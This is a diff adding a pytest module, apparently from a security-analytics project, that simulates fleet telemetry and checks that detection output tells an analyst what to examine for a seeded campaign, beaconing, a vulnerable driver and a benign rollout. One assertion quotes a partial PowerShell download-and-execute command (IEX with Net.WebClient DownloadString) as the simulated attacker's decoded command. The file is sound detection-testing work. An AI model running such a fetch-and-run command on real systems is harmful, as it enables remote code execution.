@@ -1,0 +1,76 @@
+"""On a simulated fleet, the checks name what the analyst must look at (task I11).
+
+simulate -> ingest -> detect, as ``test_fleet_detection.py`` does (seed 3:
+the seed campaign, beaconing, lateral movement, a vulnerable driver and a
+44-host software rollout among benign fleet activity).
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from analytics.detect import detect
+from analytics.evaluate import load_truth
+from graphsiem.simulator.engine import simulate
+from graphsiem.store.embedded import EmbeddedStore
+from ingest.journal import Journal
+from ingest.pipeline import ingest_paths
+
+
+@pytest.fixture(scope="module")
+def detection(tmp_path_factory):
+    root = tmp_path_factory.mktemp("fleet-i11")
+    simulate(root / "telemetry", hosts=120, days=2, seed=3, density=0.3)
+    store = EmbeddedStore(root / "graph")
+    with Journal(root / "journal.sqlite") as journal:
+        ingest_paths([root / "telemetry" / "endpoint", root / "telemetry" / "network"], store=store,
+                     journal=journal, progress=False)
+    truth = load_truth(root / "telemetry" / "ground_truth.json")
+    contracts = [c.to_contract() for c in detect(store).clusters]
+    store.close()
+    return contracts, truth
+
+
+def _with_pivot(contracts, value):
+    return next(c for c in contracts if c["pivot"]["value"] == value)
+
+
+def test_the_seed_campaign_checks_name_its_domain_and_its_decoded_command(detection):
+    contracts, truth = detection
+    seed = next(t for t in truth if t.is_seed)
+    cluster = next(c for c in contracts if set(c["hosts"]) == seed.hosts and c["pivot"]["type"] == "domain")
+    domain = cluster["pivot"]["value"]
+    assert ("domain", domain) in seed.indicators
+    checks = cluster["explanation"]["checks"]
+    assert 1 <= len(checks) <= 6
+    positive = [f["name"] for f in cluster["explanation"]["features"] if f["contribution"] > 0]
+    assert checks[0]["feature"] == positive[0]  # the most contributing feature first
+    text = " ".join(c["check"] for c in checks)
+    assert domain in text
+    # The decoded -enc command, quoted (cut to 80 characters like the summary).
+    assert "read the decoded command \"IEX (New-Object Net.WebClient).DownloadString('http://" + domain in text
+    assert any("deployment" in c["benign_if"] for c in checks)  # a fan-out this fast could still be a push
+    assert all(c["benign_if"] for c in checks)
+
+
+def test_the_rollout_checks_say_a_deployment_would_make_it_benign(detection):
+    contracts, _ = detection
+    rollout = _with_pivot(contracts, "deploy.corp.example")
+    (step,) = rollout["explanation"]["checks"]
+    assert "deploy.corp.example" in step["check"] and "deployagent.exe → msiexec.exe" in step["check"]
+    assert "deployment" in step["benign_if"]
+
+
+def test_the_vulnerable_driver_checks_give_its_digest(detection):
+    contracts, _ = detection
+    driver = _with_pivot(contracts, r"C:\Windows\Temp\RTCore64.sys")
+    digests = [k["key"] for k in driver["entity_keys"] if len(k["key"]) == 64]
+    assert any("installed as a driver" in c["check"] and digests[0] in c["check"]
+               for c in driver["explanation"]["checks"])
+
+
+def test_the_beacon_checks_ask_for_the_interval(detection):
+    contracts, _ = detection
+    beacon = _with_pivot(contracts, "api.metrics-sync-cloud.example")
+    first = beacon["explanation"]["checks"][0]
+    assert first["feature"] == "repeat_contacts" and "intervals are regular" in first["check"]
